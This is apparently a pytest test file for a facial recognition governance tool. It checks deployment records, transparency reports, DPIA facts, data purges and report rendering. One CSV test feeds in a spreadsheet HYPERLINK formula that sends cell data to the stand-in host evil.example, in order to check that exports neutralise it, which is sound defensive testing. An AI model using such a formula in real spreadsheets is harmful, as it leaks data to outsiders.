"""Deployment records, the transparency report and DPIA facts, from a database with reviewed alerts."""

from __future__ import annotations

import base64
import csv
import io
import json
import re
from collections.abc import Iterator
from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import func, select, update

from openlfr.alerts.db_store import DbAlertStore
from openlfr.cli import main
from openlfr.config.governance import GovernanceConfig
from openlfr.config.models import Settings
from openlfr.deployments.figures import add_counts, tally
from openlfr.deployments.notice import record_placement
from openlfr.deployments.service import (
    authorise_deployment,
    create_deployment,
    end_deployment,
    start_deployment,
)
from openlfr.deployments.types import RunCounts
from openlfr.pipeline.thresholds import SFACE_INT8BQ_TAIL
from openlfr.reports.deployment import build_record, to_csv, to_html
from openlfr.reports.transparency import alerts_figure, build_transparency, charts, render_transparency
from openlfr.store.alert_models import AlertRecord
from openlfr.store.context import Store, open_store
from openlfr.store.governance_models import Deployment
from tests.deployments.helpers import T0, alert_event, make_snapshot, plan, planner, sgt
from tests.helpers.accounts import cli_sign_in

FLOOR4 = round(SFACE_INT8BQ_TAIL.threshold_for_size(4), 4)


# (status, outcome) → published category
REVIEWS = [
    ("confirmed", "arrested"),  # true, confirmed (engaged), arrest
    ("confirmed", "spoken_to"),  # true, confirmed
    ("confirmed", None),  # true, unconfirmed
    ("confirmed", "not_located"),  # true, unconfirmed
    ("rejected", "no_action"),  # false, confirmed (engaged: not the person)
    ("rejected", None),  # false, unconfirmed
    ("pending", None),  # not reviewed
]


def test_tally_maps_review_and_outcome_to_the_published_categories() -> None:
    t = tally(REVIEWS)
    assert (t.alerts, t.true_confirmed, t.true_unconfirmed, t.false_confirmed, t.false_unconfirmed) == (7, 2, 2, 1, 1)
    assert (t.unreviewed, t.engagements, t.arrests) == (1, 3, 1)


def test_the_final_state_decides_true_or_false() -> None:
    """A confirmed alert found to be someone else when spoken to is a false alert (engaged); a confirmed alert
    that officers chose not to engage stays true and unconfirmed."""
    t = tally([("confirmed", "not_the_person"), ("confirmed", "not_engaged"), ("rejected", "not_the_person")])
    assert (t.true_confirmed, t.true_unconfirmed, t.false_confirmed, t.false_unconfirmed) == (0, 1, 2, 0)
    assert (t.engagements, t.arrests, t.unreviewed) == (2, 0, 0)


@pytest.mark.slow
def test_published_figures_follow_the_final_state_and_count_the_unreviewed(store: Store) -> None:
    """The deployment record, the transparency report and the public feed count "not the person" as false and
    say how many alerts nobody reviewed; the purge keeps those figures."""
    from openlfr.reports.public_feed import feed_html, public_deployment
    from openlfr.retention.purge import purge_alerts

    reviews: list[tuple[str, str | None]] = [
        ("confirmed", "not_the_person"),
        ("confirmed", "arrested"),
        ("pending", None),
    ]
    deployment_id = _deployment(store, "Station", 0, reviews, faces=1000)
    with store.db.session() as session:
        record = build_record(session, deployment_id)
        assert (record.true_confirmed, record.false_confirmed, record.unreviewed) == (1, 1, 1)
        assert record.false_alert_rate == pytest.approx(1 / 1000) and record.false_alert_share == pytest.approx(1 / 2)
        assert "<th>Not reviewed (pending or escalated)</th><td>1</td>" in to_html(record)
        deployment = session.get(Deployment, deployment_id)
        assert deployment is not None
        item = public_deployment(session, deployment, GovernanceConfig())
        assert item.figures is not None and (item.figures.false_confirmed, item.figures.unreviewed) == (1, 1)
        assert "alerts 3 (true 1, false 1, not reviewed 1)" in feed_html([item], GovernanceConfig())
        report = build_transparency(session, T0 - timedelta(days=1), T0 + timedelta(days=1))
        totals = report.totals()
        assert (totals["false_confirmed"], totals["true_confirmed"], totals["unreviewed"]) == (1, 1, 1)
        assert "1 not reviewed" in render_transparency(report, "html")
        supervisor = sgt(session)
    purge_alerts(store, now=T0 + timedelta(days=60), retention_days=31, by=supervisor)
    with store.db.session() as session:
        assert build_record(session, deployment_id) == record


def _deployment(
    store: Store,
    name: str,
    day: int,
    reviews: list[tuple[str, str | None]],
    faces: int | None,
    location: str = "High Street, outside the station",
    use_case: str = "crime hotspot",
) -> str:
    start = T0 + timedelta(days=day)
    with store.db.session() as session:
        snapshot = make_snapshot(session, templates=4)
        d = create_deployment(
            session,
            plan(
                snapshot.id,
                name=name,
                location=location,
                use_case=use_case,
                planned_start=start,
                planned_end=start + timedelta(hours=3),
            ),
            by=planner(session),
            config=GovernanceConfig(),
            now=start - timedelta(days=1),
        )
        authorise_deployment(session, d.id, by=sgt(session), text="ok", config=GovernanceConfig(), now=start)
        record_placement(session, d.id, location="both entrances", by=planner(session), now=start)
        start_deployment(session, d.id, by=planner(session), now=start)
        deployment_id = d.id
    alerts = DbAlertStore(store.db, store.media, deployment_id=deployment_id)
    for i, (status, outcome) in enumerate(reviews):
        alert_id = f"{deployment_id[:8]}-{i}"
        alerts.append(replace(alert_event(alert_id, 0, start + timedelta(minutes=10 + i))))
        with store.db.session() as session:
            session.execute(
                update(AlertRecord).where(AlertRecord.id == alert_id).values(status=status, outcome=outcome)
            )
    with store.db.session() as session:
        if faces is not None:
            counts = RunCounts(frames=faces * 40, detections=faces * 4, tracks=faces, tracks_unexamined=faces // 1000)
            add_counts(session, deployment_id, counts, start)
        end_deployment(session, deployment_id, by=planner(session), reason="done", now=start + timedelta(hours=3))
    return deployment_id


@pytest.fixture
def store(database_url: str, tmp_path: Path) -> Iterator[Store]:
    with open_store(Settings(data_dir=tmp_path, database_url=database_url)) as opened:
        yield opened


@pytest.mark.slow
def test_deployment_record_and_transparency_report(store: Store) -> None:
    first = _deployment(store, "Station", 0, REVIEWS, faces=20_000)
    _deployment(store, "Market", 7, [("confirmed", "arrested"), ("rejected", None)], faces=None)
    with store.db.session() as session:
        record = build_record(session, first)
        assert (record.faces_seen, record.alerts, record.arrests, record.engagements) == (20_000, 7, 1, 3)
        assert record.tracks_unexamined == 20  # passers-by the system had no time to check: published
        assert "<th>Passers-by not examined (system overloaded)</th><td>20</td>" in to_html(record)
        assert record.false_alert_rate == pytest.approx(2 / 20_000)
        assert record.false_alert_share == pytest.approx(2 / 6)
        # the threshold calibrated for 4 templates (shipped SFace tail, 1 false alert per 6,000 passers-by)
        assert (record.watchlist_size, record.threshold, record.final) == (4, FLOOR4, True)
        report = build_transparency(session, T0 - timedelta(days=1), T0 + timedelta(days=30))
        empty = build_transparency(session, T0 + timedelta(days=60), T0 + timedelta(days=90))
    assert [r.name for r in report.records] == ["Station", "Market"]
    totals = report.totals()
    assert (totals["alerts"], totals["arrests"], totals["faces_seen"], totals["deployments"]) == (9, 2, 20_000, 2)
    images = charts(report)
    for png in images.values():
        assert base64.b64decode(png)[:8] == b"\x89PNG\r\n\x1a\n"
    assert empty.records == () and empty.totals()["alerts"] == 0
    assert charts(empty)  # an empty period still renders


@pytest.mark.slow
def test_report_cli_formats_and_dpia_facts(
    store: Store, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    deployment_id = _deployment(store, "Station", 0, REVIEWS, faces=5000)
    url = store.db.engine.url.render_as_string(hide_password=False)
    monkeypatch.setenv("LFR_DATA_DIR", str(tmp_path))
    db = ["--db", url]
    assert main(["report", "deployment", deployment_id, *db]) == 1  # an audited read: who reads it?
    assert "not_signed_in" in capsys.readouterr().err
    cli_sign_in(url, tmp_path, "aud", "auditor")
    assert main(["report", "deployment", deployment_id, *db]) == 0
    data = json.loads(capsys.readouterr().out)
    assert (data["true_confirmed"], data["false_unconfirmed"], data["faces_seen"]) == (2, 1, 5000)
    assert main(["report", "deployment", deployment_id, "--format", "csv", *db]) == 0
    (row,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
    assert (row["location"], row["watchlist_size"], row["arrests"]) == ("High Street, outside the station", "4", "1")
    page = tmp_path / "record.html"
    assert main(["report", "deployment", deployment_id, "--format", "html", "-o", str(page), *db]) == 0
    assert "False alerts, confirmed" in page.read_text() and "<script" not in page.read_text()
    html_out = tmp_path / "t.html"
    assert main(["report", "transparency", "--from", "2026-11-01", "--to", "2027-01-01", "-o", str(html_out), *db]) == 0
    assert len(re.findall(r"data:image/png;base64,", html_out.read_text())) == 2
    equity = tmp_path / "equity.json"
    equity.write_text(json.dumps({"groups": {"sex": {"F": {"fnir": 0.1}}}, "flags": []}))
    assert main(["report", "dpia-facts", deployment_id, "--equity", str(equity), "--json", *db]) == 0
    facts = json.loads(capsys.readouterr().out)
    assert facts["retention"]["alerts_days"] == 31
    assert facts["threshold"]["calibrated_default"] == FLOOR4 and "lfw_dev" in facts["threshold"]["derivation"]
    assert facts["equity"]["groups"]["sex"]["F"]["fnir"] == 0.1
    assert facts["watchlist"]["templates_destroyed"] == 4
    assert any("verified intact" in s for s in facts["safeguards"])
    assert any(s.startswith("signs recorded as put up") and "both entrances" in s for s in facts["safeguards"])
    assert any("missing settings: governance.notice.public_base_url" in s for s in facts["safeguards"])
    assert any("NOT encrypted" in s for s in facts["data_flows"])
    assert facts["threshold"]["equity_range"].startswith("not provided")
    calibration = tmp_path / "calibration.json"
    block = {"attribute": "sex", "low": 0.6, "high": 0.8, "dataset": "lfw_dev", "intervals": [[0.6, 0.8]]}
    calibration.write_text(json.dumps({"threshold": 0.63, "equity_range": block}))
    assert main(["report", "dpia-facts", deployment_id, "--calibration", str(calibration), "--json", *db]) == 0
    equity = json.loads(capsys.readouterr().out)["threshold"]["equity_range"]
    assert equity["deployment_threshold_inside"] is False  # the deployment runs at the default, below 0.6
    assert "OUTSIDE" in equity["statement"] and "justification" in equity["statement"]
    block["intervals"] = [[0.4, 0.5], [0.6, 0.8]]
    calibration.write_text(json.dumps({"equity_range": block}))
    assert main(["report", "dpia-facts", deployment_id, "--calibration", str(calibration), "--json", *db]) == 0
    assert json.loads(capsys.readouterr().out)["threshold"]["equity_range"]["deployment_threshold_inside"] is True
    assert main(["report", "dpia-facts", deployment_id, *db]) == 0
    assert capsys.readouterr().out.startswith("# DPIA facts: Station (")


def test_a_final_record_keeps_its_figures_after_the_purge_and_an_erasure(store: Store) -> None:
    """Purging the alerts' personal data (31 days) or erasing alerts on request never changes the published
    record: before the rows go, their categories are added to the deployment's retired tally."""
    from openlfr.retention.access import erase_alerts
    from openlfr.retention.purge import purge_alerts

    deployment_id = _deployment(store, "Station", 0, REVIEWS, faces=5000)
    with store.db.session() as session:
        before = build_record(session, deployment_id)
        first_alert = session.scalars(select(AlertRecord.id).where(AlertRecord.deployment_id == deployment_id)).first()
        supervisor = sgt(session)
    assert first_alert is not None
    erased, _ = erase_alerts(store, [first_alert], by=supervisor, reason="subject access request")
    assert erased == 1
    result = purge_alerts(store, now=T0 + timedelta(days=60), retention_days=31, by=supervisor)
    assert result.alerts == len(REVIEWS) - 1
    with store.db.session() as session:
        assert session.scalar(select(func.count()).select_from(AlertRecord)) == 0
        after = build_record(session, deployment_id)
    assert after == before
    assert (after.alerts, after.arrests, after.true_confirmed, after.final) == (7, 1, 2, True)
    assert after.false_alert_rate == pytest.approx(2 / 5000)


def test_deployment_and_transparency_csv_neutralise_typed_formulas(store: Store) -> None:
    link = '=HYPERLINK("http://evil.example/?leak="&B2,"details")'
    deployment_id = _deployment(store, "@SUM(1+1)", 0, REVIEWS[:1], faces=10, location=link)
    with store.db.session() as session:
        record = build_record(session, deployment_id)
        report = build_transparency(session, T0 - timedelta(days=1), T0 + timedelta(days=30))
    for text in (to_csv([record]), render_transparency(report, "csv")):
        (row,) = csv.DictReader(io.StringIO(text))
        assert (row["name"], row["location"]) == ("'@SUM(1+1)", "'" + link)
        assert row["alerts"] == "1"  # numbers are written as numbers


def test_the_alerts_chart_is_legible_with_one_deployment(store: Store) -> None:
    """Rendered from a real demo run (docs/transparency-report.png), the chart hid the legend's swatch behind the
    one bar, which filled the whole axis, and counted alerts in halves: the legend sits beside the axes, a lone
    deployment is one bar among room for more, and the count axis shows whole numbers."""
    matplotlib = pytest.importorskip("matplotlib")
    matplotlib.use("Agg")
    reviews = [("confirmed", None), ("confirmed", None), ("rejected", None)]
    deployment_id = _deployment(store, "OpenLFR demo: Hamilton clip, a long name", 0, reviews, faces=27)
    with store.db.session() as session:
        figure = alerts_figure([build_record(session, deployment_id)])
    figure.draw_without_rendering()
    ax = figure.axes[0]
    plot_area, legend = ax.get_window_extent(), ax.get_legend().get_window_extent()
    assert not legend.overlaps(plot_area)
    bars = [patch.get_window_extent() for patch in ax.patches if patch.get_height() > 0]
    assert bars and all(bar.width < plot_area.width / 3 for bar in bars)
    shown = [tick for tick in ax.get_yticks() if ax.get_ylim()[0] <= tick <= ax.get_ylim()[1]]
    assert shown and all(float(tick).is_integer() for tick in shown)
    assert "Hamilton clip" in ax.get_xticklabels()[0].get_text()  # the name, shortened with an ellipsis


# Every word of every table cell on one line (a word broken across lines has more than one client rect).
WORDS_WHOLE_JS = """() => [...document.querySelectorAll('td')].flatMap(td => {
  const text = td.firstChild; if (!text || text.nodeType !== 3) return [];
  const out = []; const re = /\\S+/g; let m;
  while ((m = re.exec(text.data))) { const r = document.createRange(); r.setStart(text, m.index);
    r.setEnd(text, m.index + m[0].length); if (r.getClientRects().length > 1) out.push(m[0]); }
  return out; })"""


@pytest.mark.browser
def test_reports_render_legibly_in_chromium(store: Store, browser: Any) -> None:
    """Rendered from a real demo run (docs/deployment-record.png), the record's 64-character snapshot
    fingerprint squeezed the labels into a narrow column (five lines for one label): the labels keep their
    column and the fingerprint wraps; in the transparency report no word is broken across lines."""
    deployment_id = _deployment(store, "OpenLFR demo: Hamilton clip", 0, REVIEWS, faces=27)
    # as the demo writes it (docs/transparency-report.png): a location in words, a 10-character date, no space
    demo = {"location": "this computer (sample video)", "use_case": "demonstration"}
    _deployment(store, "Demo", 0, REVIEWS, faces=42, **demo)
    with store.db.session() as session:
        record = to_html(build_record(session, deployment_id))
        report = render_transparency(
            build_transparency(session, T0 - timedelta(days=1), T0 + timedelta(days=1)), "html"
        )
    page = browser.new_page(viewport={"width": 1000, "height": 800})
    try:
        page.set_content(record)
        table = page.eval_on_selector("table", "t => t.getBoundingClientRect().width")
        widths = page.eval_on_selector_all("th", "ths => ths.map(th => th.getBoundingClientRect().width)")
        assert widths and min(widths) >= 0.35 * table, (widths, table)
        fingerprint = page.eval_on_selector_all("td", "tds => tds.map(td => [td.scrollWidth, td.clientWidth])")
        assert all(scroll <= client for scroll, client in fingerprint)  # nothing spills out of its cell
        page.set_content(report)
        assert page.evaluate(WORDS_WHOLE_JS) == []
        body = page.eval_on_selector("body", "b => b.getBoundingClientRect().right")
        assert page.eval_on_selector("table", "t => t.getBoundingClientRect().right") <= body  # no overflow
    finally:
        page.close()
